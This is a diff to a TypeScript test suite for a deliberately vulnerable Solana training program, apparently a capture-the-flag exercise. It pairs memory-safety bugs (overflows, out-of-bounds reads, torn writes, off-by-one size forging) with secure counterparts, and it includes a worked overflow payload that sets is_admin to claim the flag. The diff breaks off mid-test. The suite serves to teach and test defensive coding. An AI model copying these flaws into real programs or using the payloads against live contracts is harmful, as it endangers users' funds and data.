@@ -2,6 +2,7 @@ import * as anchor from "@coral-xyz/anchor";
 import { Program, web3 } from "@coral-xyz/anchor";
 import { MemorySafetyVulns } from "../target/types/memory_safety_vulns";
 import { expect } from "chai";
+import { readFileSync } from "fs";
 
 describe("memory-safety-vulns", () => {
   // Configure the client to use the local cluster.
@@ -9,17 +10,24 @@ describe("memory-safety-vulns", () => {
   const program = anchor.workspace.MemorySafetyVulns as Program<MemorySafetyVulns>;
   const provider = anchor.getProvider();
 
+  // Demo accounts are PDAs namespaced by player
+  const playerAccount = (seed: string, player: web3.PublicKey) =>
+    web3.PublicKey.findProgramAddressSync(
+      [Buffer.from(seed), player.toBuffer()],
+      program.programId
+    )[0];
+
   // Test accounts
-  let bufferAccount: web3.Keypair;
-  let targetAccount: web3.Keypair;
-  let complexAccount: web3.Keypair;
+  let bufferAccount: web3.PublicKey;
+  let targetAccount: web3.PublicKey;
+  let complexAccount: web3.PublicKey;
   let user: web3.Keypair;
 
   beforeEach(async () => {
-    bufferAccount = web3.Keypair.generate();
-    targetAccount = web3.Keypair.generate();
-    complexAccount = web3.Keypair.generate();
     user = web3.Keypair.generate();
+    bufferAccount = playerAccount("buffer", user.publicKey);
+    targetAccount = playerAccount("target", user.publicKey);
+    complexAccount = playerAccount("complex", user.publicKey);
 
     // Airdrop SOL to user for testing
     await provider.connection.confirmTransaction(
@@ -33,10 +41,10 @@ describe("memory-safety-vulns", () => {
       await program.methods
         .initializeBuffer()
         .accounts({
-          bufferAccount: bufferAccount.publicKey,
+          bufferAccount: bufferAccount,
           user: user.publicKey,
         })
-        .signers([bufferAccount, user])
+        .signers([user])
         .rpc();
 
       console.log("✅ Buffer account initialized");
@@ -46,10 +54,10 @@ describe("memory-safety-vulns", () => {
       await program.methods
         .initializeBuffer()
         .accounts({
-          bufferAccount: bufferAccount.publicKey,
+          bufferAccount: bufferAccount,
           user: user.publicKey,
         })
-        .signers([bufferAccount, user])
+        .signers([user])
         .rpc();
 
       // Safe operation - data within bounds
@@ -58,7 +66,7 @@ describe("memory-safety-vulns", () => {
       await program.methods
         .bufferOverflowDemo(safeData)
         .accounts({
-          bufferAccount: bufferAccount.publicKey,
+          bufferAccount: bufferAccount,
           user: user.publicKey,
         })
         .signers([user])
@@ -71,10 +79,10 @@ describe("memory-safety-vulns", () => {
       await program.methods
         .initializeBuffer()
         .accounts({
-          bufferAccount: bufferAccount.publicKey,
+          bufferAccount: bufferAccount,
           user: user.publicKey,
         })
-        .signers([bufferAccount, user])
+        .signers([user])
         .rpc();
 
       // Create data larger than buffer capacity (64 bytes)
@@ -84,7 +92,7 @@ describe("memory-safety-vulns", () => {
         await program.methods
           .bufferOverflowDemo(oversizedData)
           .accounts({
-            bufferAccount: bufferAccount.publicKey,
+            bufferAccount: bufferAccount,
             user: user.publicKey,
           })
           .signers([user])
@@ -105,17 +113,17 @@ describe("memory-safety-vulns", () => {
       await program.methods
         .initializeTarget()
         .accounts({
-          targetAccount: targetAccount.publicKey,
+          targetAccount: targetAccount,
           user: user.publicKey,
         })
-        .signers([targetAccount, user])
+        .signers([user])
         .rpc();
 
       try {
         await program.methods
           .useAfterFreeDemo()
           .accounts({
-            targetAccount: targetAccount.publicKey,
+            targetAccount: targetAccount,
             user: user.publicKey,
           })
           .signers([user])
@@ -134,15 +142,13 @@ describe("memory-safety-vulns", () => {
   describe("Uninitialized Memory Access Vulnerability", () => {
     it("Should detect uninitialized memory access", async () => {
       // Create account but don't properly initialize it
-      const uninitAccount = web3.Keypair.generate();
-      
       await program.methods
         .initializeTarget()
         .accounts({
-          targetAccount: uninitAccount.publicKey,
+          targetAccount: targetAccount,
           user: user.publicKey,
         })
-        .signers([uninitAccount, user])
+        .signers([user])
         .rpc();
 
       // Now create a scenario where we access "uninitialized" data
@@ -152,7 +158,7 @@ describe("memory-safety-vulns", () => {
         await program.methods
           .uninitializedMemoryDemo()
           .accounts({
-            targetAccount: uninitAccount.publicKey,
+            targetAccount: targetAccount,
             user: user.publicKey,
           })
           .signers([user])
@@ -171,17 +177,17 @@ describe("memory-safety-vulns", () => {
       await program.methods
         .initializeTarget()
         .accounts({
-          targetAccount: targetAccount.publicKey,
+          targetAccount: targetAccount,
           user: user.publicKey,
         })
-        .signers([targetAccount, user])
+        .signers([user])
         .rpc();
 
       // First free should succeed
       await program.methods
         .doubleFreeDemo()
         .accounts({
-          targetAccount: targetAccount.publicKey,
+          targetAccount: targetAccount,
           user: user.publicKey,
         })
         .signers([user])
@@ -194,7 +200,7 @@ describe("memory-safety-vulns", () => {
         await program.methods
           .doubleFreeDemo()
           .accounts({
-            targetAccount: targetAccount.publicKey,
+            targetAccount: targetAccount,
             user: user.publicKey,
           })
           .signers([user])
@@ -214,17 +220,17 @@ describe("memory-safety-vulns", () => {
       await program.methods
         .initializeTarget()
         .accounts({
-          targetAccount: targetAccount.publicKey,
+          targetAccount: targetAccount,
           user: user.publicKey,
         })
-        .signers([targetAccount, user])
+        .signers([user])
         .rpc();
 
       // Test safe operation (no null pointer)
       await program.methods
         .nullPointerDemo(false)
         .accounts({
-          targetAccount: targetAccount.publicKey,
+          targetAccount: targetAccount,
           user: user.publicKey,
         })
         .signers([user])
@@ -237,17 +243,17 @@ describe("memory-safety-vulns", () => {
       await program.methods
         .initializeTarget()
         .accounts({
-          targetAccount: targetAccount.publicKey,
+          targetAccount: targetAccount,
           user: user.publicKey,
         })
-        .signers([targetAccount, user])
+        .signers([user])
         .rpc();
 
       try {
         await program.methods
           .nullPointerDemo(true)
           .accounts({
-            targetAccount: targetAccount.publicKey,
+            targetAccount: targetAccount,
             user: user.publicKey,
           })
           .signers([user])
@@ -267,10 +273,10 @@ describe("memory-safety-vulns", () => {
       await program.methods
         .initializeComplex()
         .accounts({
-          targetAccount: complexAccount.publicKey,
+          targetAccount: complexAccount,
           user: user.publicKey,
         })
-        .signers([complexAccount, user])
+        .signers([user])
         .rpc();
     });
 
@@ -281,7 +287,7 @@ describe("memory-safety-vulns", () => {
         await program.methods
           .complexVulnerabilityDemo(1, oversizedData)
           .accounts({
-            targetAccount: complexAccount.publicKey,
+            targetAccount: complexAccount,
             user: user.publicKey,
           })
           .signers([user])
@@ -300,7 +306,7 @@ describe("memory-safety-vulns", () => {
         await program.methods
           .complexVulnerabilityDemo(2, Buffer.alloc(0))
           .accounts({
-            targetAccount: complexAccount.publicKey,
+            targetAccount: complexAccount,
             user: user.publicKey,
           })
           .signers([user])
@@ -319,7 +325,7 @@ describe("memory-safety-vulns", () => {
       await program.methods
         .complexVulnerabilityDemo(3, Buffer.alloc(0))
         .accounts({
-          targetAccount: complexAccount.publicKey,
+          targetAccount: complexAccount,
           user: user.publicKey,
         })
         .signers([user])
@@ -332,7 +338,7 @@ describe("memory-safety-vulns", () => {
         await program.methods
           .complexVulnerabilityDemo(3, Buffer.alloc(0))
           .accounts({
-            targetAccount: complexAccount.publicKey,
+            targetAccount: complexAccount,
             user: user.publicKey,
           })
           .signers([user])
@@ -347,25 +353,1435 @@ describe("memory-safety-vulns", () => {
     });
   });
 
-  describe("Memory Safety Best Practices Demo", () => {
-    it("Should demonstrate safe memory operations", async () => {
-      const safeAccount = web3.Keypair.generate();
-      
-      // Proper initialization
+  describe("Realloc Overflow", () => {
+    const payload = Buffer.alloc(32, 0xAB);
+
+    beforeEach(async () => {
       await program.methods
-        .initializeTarget()
+        .initializeBuffer()
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+
+      await program.methods
+        .bufferOverflowDemo(payload)
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+    });
+
+    it("Should let an attacker-chosen length shrink the buffer and lose the copy", async () => {
+      // 16 bytes keeps only the discriminator and size; the copy lands past the end
+      await program.methods
+        .growBuffer(new anchor.BN(16))
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+
+      const account = await provider.connection.getAccountInfo(bufferAccount);
+      expect(account.data.length).to.equal(16);
+      console.log("✅ Vulnerable realloc truncated the buffer and wrote out of bounds");
+    });
+
+    it("Should reject shrinking in the secure version", async () => {
+      try {
+        await program.methods
+          .secureGrowBuffer(new anchor.BN(16))
+          .accounts({
+            bufferAccount: bufferAccount,
+            user: user.publicKey,
+          })
+          .signers([user])
+          .rpc();
+
+        expect.fail("Expected invalid buffer length error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("Requested buffer length is out of bounds");
+        console.log("✅ Secure realloc rejected shrinking:", errorMessage);
+      }
+    });
+
+    it("Should grow the buffer and copy the old contents in the secure version", async () => {
+      // 8 discriminator + 8 size + 64 data, then room for the 32-byte copy
+      await program.methods
+        .secureGrowBuffer(new anchor.BN(80 + 32))
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+
+      const account = await provider.connection.getAccountInfo(bufferAccount);
+      expect(account.data.length).to.equal(112);
+      expect(account.data.subarray(80, 112)).to.deep.equal(payload);
+      console.log("✅ Secure realloc grew the buffer with bounds-checked copy");
+    });
+  });
+
+  describe("Aliased Accounts", () => {
+    beforeEach(async () => {
+      await program.methods
+        .initializeBuffer()
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+    });
+
+    it("Should panic when the same account is passed twice", async () => {
+      try {
+        await program.methods
+          .copyBuffer()
+          .accounts({
+            source: bufferAccount,
+            destination: bufferAccount,
+            user: user.publicKey,
+          })
+          .signers([user])
+          .rpc();
+
+        expect.fail("Expected the double borrow to panic");
+      } catch (error: any) {
+        const logs: string[] = error.logs || error.transactionLogs || [];
+        expect(logs.join("\n")).to.include("already borrowed");
+        console.log("✅ Aliased accounts triggered a RefCell double-borrow panic");
+      }
+    });
+
+    it("Should reject aliased accounts in the secure version", async () => {
+      try {
+        await program.methods
+          .secureCopyBuffer()
+          .accounts({
+            source: bufferAccount,
+            destination: bufferAccount,
+            user: user.publicKey,
+          })
+          .signers([user])
+          .rpc();
+
+        expect.fail("Expected aliased accounts error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("Source and destination must be different accounts");
+        console.log("✅ Secure copy rejected aliased accounts:", errorMessage);
+      }
+    });
+
+    it("Should copy between distinct buffers in the secure version", async () => {
+      // Each player has one buffer, so the source belongs to someone else
+      const other = web3.Keypair.generate();
+      await provider.connection.confirmTransaction(
+        await provider.connection.requestAirdrop(other.publicKey, web3.LAMPORTS_PER_SOL),
+        "confirmed"
+      );
+      const source = playerAccount("buffer", other.publicKey);
+      await program.methods
+        .initializeBuffer()
+        .accounts({ bufferAccount: source, user: other.publicKey })
+        .signers([other])
+        .rpc();
+      await program.methods
+        .bufferOverflowDemo(Buffer.from("copy me", "utf-8"))
+        .accounts({ bufferAccount: source, user: other.publicKey })
+        .signers([other])
+        .rpc();
+
+      await program.methods
+        .secureCopyBuffer()
+        .accounts({
+          source,
+          destination: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+
+      const copied = await program.account.bufferAccount.fetch(bufferAccount);
+      expect(copied.size.toNumber()).to.equal(7);
+      console.log("✅ Distinct buffers copied safely");
+    });
+  });
+
+  describe("Stack Exhaustion", () => {
+    // [depth - 1, depth - 2, ..., 0]: each node's body is the next level down
+    const nested = (depth: number) =>
+      Buffer.from(Array.from({ length: depth }, (_, i) => depth - 1 - i));
+
+    it("Should exhaust the stack on deeply nested input", async () => {
+      try {
+        await program.methods
+          .recursiveParse(nested(200))
+          .accounts({ user: user.publicKey })
+          .signers([user])
+          .rpc();
+
+        expect.fail("Expected the recursion to exhaust the stack");
+      } catch (error: any) {
+        const logs: string[] = error.logs || error.transactionLogs || [];
+        expect(logs.join("\n")).to.match(/call depth|stack/i);
+        console.log("✅ Deep nesting exhausted the SBF stack");
+      }
+    });
+
+    it("Should reject deep nesting in the secure version", async () => {
+      try {
+        await program.methods
+          .secureRecursiveParse(nested(200))
+          .accounts({ user: user.publicKey })
+          .signers([user])
+          .rpc();
+
+        expect.fail("Expected nesting too deep error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("Input is nested too deeply");
+        console.log("✅ Secure parser rejected deep nesting:", errorMessage);
+      }
+    });
+
+    it("Should parse shallow input in both versions", async () => {
+      for (const method of ["recursiveParse", "secureRecursiveParse"] as const) {
+        await program.methods[method](nested(8))
+          .accounts({ user: user.publicKey })
+          .signers([user])
+          .rpc();
+      }
+      console.log("✅ Shallow input parsed");
+    });
+  });
+
+  describe("Heap Exhaustion", () => {
+    it("Should abort when the requested allocation exceeds the heap", async () => {
+      try {
+        await program.methods
+          .allocateScratch(new anchor.BN(64 * 1024))
+          .accounts({ user: user.publicKey })
+          .signers([user])
+          .rpc();
+
+        expect.fail("Expected the allocation to fail");
+      } catch (error: any) {
+        const logs: string[] = error.logs || error.transactionLogs || [];
+        expect(logs.join("\n")).to.match(/memory allocation failed|out of memory/i);
+        console.log("✅ Oversized allocation exhausted the 32KB heap");
+      }
+    });
+
+    it("Should validate the length in the secure version", async () => {
+      try {
+        await program.methods
+          .secureAllocateScratch(new anchor.BN(64 * 1024))
+          .accounts({ user: user.publicKey })
+          .signers([user])
+          .rpc();
+
+        expect.fail("Expected allocation too large error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("Requested allocation is too large");
+        console.log("✅ Secure allocation rejected oversized length:", errorMessage);
+      }
+
+      await program.methods
+        .secureAllocateScratch(new anchor.BN(1024))
+        .accounts({ user: user.publicKey })
+        .signers([user])
+        .rpc();
+    });
+  });
+
+  describe("Misaligned Reads", () => {
+    beforeEach(async () => {
+      await program.methods
+        .initializeBuffer()
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+
+      await program.methods
+        .bufferOverflowDemo(Buffer.from(Array.from({ length: 64 }, (_, i) => i)))
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+    });
+
+    it("Should read past the buffer through a raw pointer cast", async () => {
+      // Bytes 60..68 straddle the end of the 64-byte buffer
+      const { raw } = await program.methods
+        .readU64Demo(60)
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .simulate();
+
+      expect(raw.join("\n")).to.include("Value at offset 60");
+      console.log("✅ Pointer cast read beyond the buffer without any error");
+    });
+
+    it("Should decode unaligned offsets safely in the secure version", async () => {
+      const { raw } = await program.methods
+        .secureReadU64(3)
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .simulate();
+
+      const expected = Buffer.from([3, 4, 5, 6, 7, 8, 9, 10]).readBigUInt64LE();
+      expect(raw.join("\n")).to.include(`Value at offset 3: ${expected}`);
+      console.log("✅ Unaligned offset decoded with from_le_bytes");
+    });
+
+    it("Should reject out-of-bounds offsets in the secure version", async () => {
+      try {
+        await program.methods
+          .secureReadU64(60)
+          .accounts({
+            bufferAccount: bufferAccount,
+            user: user.publicKey,
+          })
+          .rpc();
+
+        expect.fail("Expected invalid offset error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("Offset is outside the buffer");
+        console.log("✅ Secure read rejected out-of-bounds offset:", errorMessage);
+      }
+    });
+  });
+
+  describe("Slice Out Of Bounds", () => {
+    beforeEach(async () => {
+      await program.methods
+        .initializeBuffer()
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+    });
+
+    it("Should panic on an out-of-range slice", async () => {
+      try {
+        await program.methods
+          .readSliceDemo(64, 64)
+          .accounts({
+            account: bufferAccount,
+            user: user.publicKey,
+          })
+          .signers([user])
+          .rpc();
+
+        expect.fail("Expected the slice to panic");
+      } catch (error: any) {
+        const logs: string[] = error.logs || error.transactionLogs || [];
+        expect(logs.join("\n")).to.match(/out of range|panicked/);
+        console.log("✅ Unchecked slice indexing panicked");
+      }
+    });
+
+    it("Should return a clean error in the secure version", async () => {
+      try {
+        await program.methods
+          .secureReadSlice(64, 64)
+          .accounts({
+            account: bufferAccount,
+            user: user.publicKey,
+          })
+          .signers([user])
+          .rpc();
+
+        expect.fail("Expected invalid offset error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("Offset is outside the buffer");
+        console.log("✅ Secure slice read rejected bad offsets:", errorMessage);
+      }
+
+      await program.methods
+        .secureReadSlice(8, 72)
+        .accounts({
+          account: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+    });
+  });
+
+  describe("Torn Writes", () => {
+    const payload = Buffer.alloc(40, 0xCD);
+
+    beforeEach(async () => {
+      await program.methods
+        .initializeBuffer()
         .accounts({
-          targetAccount: safeAccount.publicKey,
+          bufferAccount: bufferAccount,
           user: user.publicKey,
         })
-        .signers([safeAccount, user])
+        .signers([user])
+        .rpc();
+    });
+
+    it("Should persist a half-applied update", async () => {
+      await program.methods
+        .tornWriteDemo(payload, true)
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+
+      const buffer = await program.account.bufferAccount.fetch(bufferAccount);
+      expect(buffer.size.toNumber()).to.equal(40);
+      expect(Buffer.from(buffer.data.slice(0, 20))).to.deep.equal(payload.subarray(0, 20));
+      expect(Buffer.from(buffer.data.slice(20, 40))).to.deep.equal(Buffer.alloc(20));
+      console.log("✅ Size says 40 bytes but only 20 were written");
+    });
+
+    it("Should leave the buffer untouched in the secure version", async () => {
+      await program.methods
+        .secureStagedWrite(payload, true)
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+
+      let buffer = await program.account.bufferAccount.fetch(bufferAccount);
+      expect(buffer.size.toNumber()).to.equal(0);
+      expect(Buffer.from(buffer.data)).to.deep.equal(Buffer.alloc(64));
+
+      await program.methods
+        .secureStagedWrite(payload, false)
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+
+      buffer = await program.account.bufferAccount.fetch(bufferAccount);
+      expect(buffer.size.toNumber()).to.equal(40);
+      expect(Buffer.from(buffer.data.slice(0, 40))).to.deep.equal(payload);
+      console.log("✅ Staged write committed atomically");
+    });
+  });
+
+  describe("Off-By-One Prefixed Buffer", () => {
+    let prefixedBuffer: web3.PublicKey;
+
+    beforeEach(async () => {
+      prefixedBuffer = playerAccount("prefixed", user.publicKey);
+      await program.methods
+        .initializePrefixedBuffer()
+        .accounts({
+          bufferAccount: prefixedBuffer,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+    });
+
+    it("Should let a 33-byte payload forge the size field", async () => {
+      const { targetSize } = await program.account.prefixedBuffer.fetch(prefixedBuffer);
+
+      // 32 bytes fill the buffer, the 33rd becomes the low byte of size
+      const payload = Buffer.concat([Buffer.alloc(32, 0x41), Buffer.from([targetSize.toNumber()])]);
+      await program.methods
+        .writePrefixed(payload)
+        .accounts({
+          bufferAccount: prefixedBuffer,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+
+      const buffer = await program.account.prefixedBuffer.fetch(prefixedBuffer);
+      expect(buffer.size.toNumber()).to.equal(targetSize.toNumber());
+      console.log("✅ One-byte overflow forged size to", buffer.size.toNumber());
+    });
+
+    it("Should reject the extra byte in the secure version", async () => {
+      try {
+        await program.methods
+          .secureWritePrefixed(Buffer.alloc(33, 0x41))
+          .accounts({
+            bufferAccount: prefixedBuffer,
+            user: user.publicKey,
+          })
+          .signers([user])
+          .rpc();
+
+        expect.fail("Expected buffer overflow error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("Buffer overflow detected");
+        console.log("✅ Secure write rejected the off-by-one payload:", errorMessage);
+      }
+    });
+
+    it("Should refuse writes to another player's buffer", async () => {
+      const intruder = web3.Keypair.generate();
+      await provider.connection.confirmTransaction(
+        await provider.connection.requestAirdrop(intruder.publicKey, web3.LAMPORTS_PER_SOL),
+        "confirmed"
+      );
+      try {
+        await program.methods
+          .writePrefixed(Buffer.alloc(33, 0xff))
+          .accounts({ bufferAccount: prefixedBuffer, user: intruder.publicKey })
+          .signers([intruder])
+          .rpc();
+
+        expect.fail("Expected seeds constraint error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("A seeds constraint was violated");
+        console.log("✅ Buffer is only writable by the player it belongs to");
+      }
+    });
+  });
+
+  describe("Secure Counterparts", () => {
+    const expectError = async (call: Promise<string>, message: string) => {
+      try {
+        await call;
+        expect.fail(`Expected error: ${message}`);
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include(message);
+      }
+    };
+
+    beforeEach(async () => {
+      await program.methods
+        .initializeTarget()
+        .accounts({
+          targetAccount: targetAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+    });
+
+    it("Should bounds-check buffer writes", async () => {
+      await program.methods
+        .initializeBuffer()
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+
+      await expectError(
+        program.methods
+          .secureBufferWrite(Buffer.alloc(100, 0xAA))
+          .accounts({ bufferAccount: bufferAccount, user: user.publicKey })
+          .signers([user])
+          .rpc(),
+        "Buffer overflow detected"
+      );
+
+      await program.methods
+        .secureBufferWrite(Buffer.from("Hello, safe world!", "utf-8"))
+        .accounts({ bufferAccount: bufferAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+
+      const buffer = await program.account.bufferAccount.fetch(bufferAccount);
+      expect(buffer.size.toNumber()).to.equal(18);
+      console.log("✅ Secure buffer write enforced bounds");
+    });
+
+    it("Should close for real so the account cannot be reused or closed twice", async () => {
+      const other = web3.Keypair.generate();
+      await provider.connection.confirmTransaction(
+        await provider.connection.requestAirdrop(other.publicKey, web3.LAMPORTS_PER_SOL),
+        "confirmed"
+      );
+      await expectError(
+        program.methods
+          .secureClose()
+          .accounts({ targetAccount: targetAccount, user: other.publicKey })
+          .signers([other])
+          .rpc(),
+        "Signer does not own this account"
+      );
+
+      await program.methods
+        .secureClose()
+        .accounts({ targetAccount: targetAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+      expect(await provider.connection.getAccountInfo(targetAccount)).to.be.null;
+
+      // Use after close and double close both fail Anchor's account checks
+      for (const call of [
+        program.methods
+          .secureRead()
+          .accounts({ targetAccount: targetAccount, user: user.publicKey })
+          .signers([user])
+          .rpc(),
+        program.methods
+          .secureClose()
+          .accounts({ targetAccount: targetAccount, user: user.publicKey })
+          .signers([user])
+          .rpc(),
+      ]) {
+        await expectError(call, "expected this account to be already initialized");
+      }
+      console.log("✅ Closed account rejected for reads and a second close");
+    });
+
+    it("Should model null with Option", async () => {
+      await expectError(
+        program.methods
+          .secureDeref(true)
+          .accounts({ targetAccount: targetAccount, user: user.publicKey })
+          .signers([user])
+          .rpc(),
+        "Null pointer dereference detected"
+      );
+
+      await program.methods
+        .secureDeref(false)
+        .accounts({ targetAccount: targetAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+      console.log("✅ Missing value handled without a raw pointer");
+    });
+
+    it("Should check state and bounds in complex operations", async () => {
+      await program.methods
+        .initializeComplex()
+        .accounts({ targetAccount: complexAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+
+      await expectError(
+        program.methods
+          .secureComplexOperation(1, Buffer.alloc(50, 0xFF))
+          .accounts({ targetAccount: complexAccount, user: user.publicKey })
+          .signers([user])
+          .rpc(),
+        "Buffer overflow detected"
+      );
+
+      await program.methods
+        .secureComplexOperation(3, Buffer.from([]))
+        .accounts({ targetAccount: complexAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+
+      await expectError(
+        program.methods
+          .secureComplexOperation(2, Buffer.from([]))
+          .accounts({ targetAccount: complexAccount, user: user.publicKey })
+          .signers([user])
+          .rpc(),
+        "Use after free detected"
+      );
+      console.log("✅ Complex operations validated before acting");
+    });
+  });
+
+  describe("Admin Flag Challenge", () => {
+    const registry = new Program(
+      JSON.parse(readFileSync("../../ctf-registry/target/idl/ctf_registry.json", "utf8")),
+      provider
+    );
+    const [challenge] = web3.PublicKey.findProgramAddressSync(
+      [Buffer.from("challenge"), Buffer.from("memory-safety-vulns")],
+      registry.programId
+    );
+    const [flagAuthority] = web3.PublicKey.findProgramAddressSync(
+      [Buffer.from("flag_authority")],
+      program.programId
+    );
+    const instanceAddress = (player: web3.PublicKey) =>
+      web3.PublicKey.findProgramAddressSync(
+        [Buffer.from("instance"), challenge.toBuffer(), player.toBuffer()],
+        registry.programId
+      )[0];
+    const solveAddress = (player: web3.PublicKey) =>
+      web3.PublicKey.findProgramAddressSync(
+        [Buffer.from("solve"), challenge.toBuffer(), player.toBuffer()],
+        registry.programId
+      )[0];
+    // 32 bytes fill the buffer, the next 8 land in is_admin and its padding
+    const overflowPayload = async (player: web3.PublicKey) => {
+      const instance = await (registry.account as any).instance.fetch(instanceAddress(player));
+      return Buffer.concat([Buffer.alloc(32, 0x00), instance.admin.toBuffer().subarray(0, 8)]);
+    };
+    const claim = (player: web3.Keypair) =>
+      program.methods
+        .claimAdminFlag()
+        .accountsPartial({
+          targetAccount: playerAccount("complex", player.publicKey),
+          challenge,
+          instance: instanceAddress(player.publicKey),
+          solve: solveAddress(player.publicKey),
+          flagAuthority,
+          player: player.publicKey,
+          registryProgram: registry.programId,
+        })
+        .signers([player])
+        .rpc();
+
+    before(async () => {
+      // Anchor.toml deploys the registry with the wallet as upgrade authority
+      const wallet = provider.publicKey;
+      const [programData] = web3.PublicKey.findProgramAddressSync(
+        [registry.programId.toBuffer()],
+        new web3.PublicKey("BPFLoaderUpgradeab1e11111111111111111111111")
+      );
+      await registry.methods
+        .initializeRegistry([wallet], 1)
+        .accountsPartial({ programData, payer: wallet })
+        .rpc();
+      await registry.methods
+        .registerChallenge("memory-safety-vulns", program.programId, wallet)
+        .accounts({ payer: wallet })
+        .remainingAccounts([{ pubkey: wallet, isSigner: true, isWritable: false }])
+        .rpc();
+    });
+
+    beforeEach(async () => {
+      await program.methods
+        .initializeComplex()
+        .accounts({ targetAccount: complexAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+      await registry.methods
+        .createInstance()
+        .accounts({ challenge, player: user.publicKey })
+        .signers([user])
+        .rpc();
+    });
+
+    it("Should refuse the flag while is_admin is untouched", async () => {
+      try {
+        await claim(user);
+        expect.fail("Expected not admin error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("is_admin has not been overwritten");
+        console.log("✅ Flag refused without the overflow");
+      }
+    });
+
+    it("Should refuse a payload copied from another player", async () => {
+      const other = web3.Keypair.generate();
+      await provider.connection.confirmTransaction(
+        await provider.connection.requestAirdrop(other.publicKey, web3.LAMPORTS_PER_SOL),
+        "confirmed"
+      );
+      await registry.methods
+        .createInstance()
+        .accounts({ challenge, player: other.publicKey })
+        .signers([other])
+        .rpc();
+
+      await program.methods
+        .complexVulnerabilityDemo(1, await overflowPayload(other.publicKey))
+        .accounts({ targetAccount: complexAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+      try {
+        await claim(user);
+        expect.fail("Expected not admin error");
+      } catch (error: any) {
+        const errorMessage = error.error?.errorMessage || error.message || String(error);
+        expect(errorMessage).to.include("is_admin has not been overwritten");
+        console.log("✅ Another player's sentinel does not unlock the flag");
+      }
+    });
+
+    it("Should capture the flag by overflowing the player's sentinel into is_admin", async () => {
+      const payload = await overflowPayload(user.publicKey);
+      await program.methods
+        .complexVulnerabilityDemo(1, payload)
+        .accounts({ targetAccount: complexAccount, user: user.publicKey })
+        .signers([user])
+        .rpc();
+
+      const account = await program.account.complexAccount.fetch(complexAccount);
+      expect(account.isAdmin).to.equal(payload[32]);
+
+      await claim(user);
+      const recorded = await (registry.account as any).solve.fetch(solveAddress(user.publicKey));
+      expect(recorded.player.toBase58()).to.equal(user.publicKey.toBase58());
+      console.log("✅ Overflow wrote the instance's sentinel; claim_admin_flag reported the solve");
+    });
+  });
+
+  describe("Account Dump", () => {
+    it("Should return a window of raw account bytes", async () => {
+      await program.methods
+        .initializeBuffer()
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+      await program.methods
+        .bufferOverflowDemo(Buffer.from("dump me", "utf-8"))
+        .accounts({
+          bufferAccount: bufferAccount,
+          user: user.publicKey,
+        })
+        .signers([user])
+        .rpc();
+
+      const tx = await program.methods
+        .dumpAccount(0, 23)
+        .accounts({ account: bufferAccount })
+        .transaction();
+      tx.feePayer = user.publicKey;
+      tx.recentBlockhash = (await provider.connection.getLatestBlockhash()).blockhash;
+      const { value } = await provider.connection.simulateTransaction(tx, [user]);
+      const dumped = Buffer.from(value.returnData.data[0], "base64");
+
+      const account = await provider.connection.getAccountInfo(bufferAccount);
+      expect(dumped).to.deep.equal(account.data.subarray(0, 23));
+      expect(dumped.subarray(16).toString("utf-8")).to.equal("dump me");
+      console.log("✅ Raw bytes: discriminator, size, then data");
+    });
+  });
+
+  describe("Record Array Overflow", () => {
+    let recordBook: web3.PublicKey;
+
+    beforeEach(async () => {
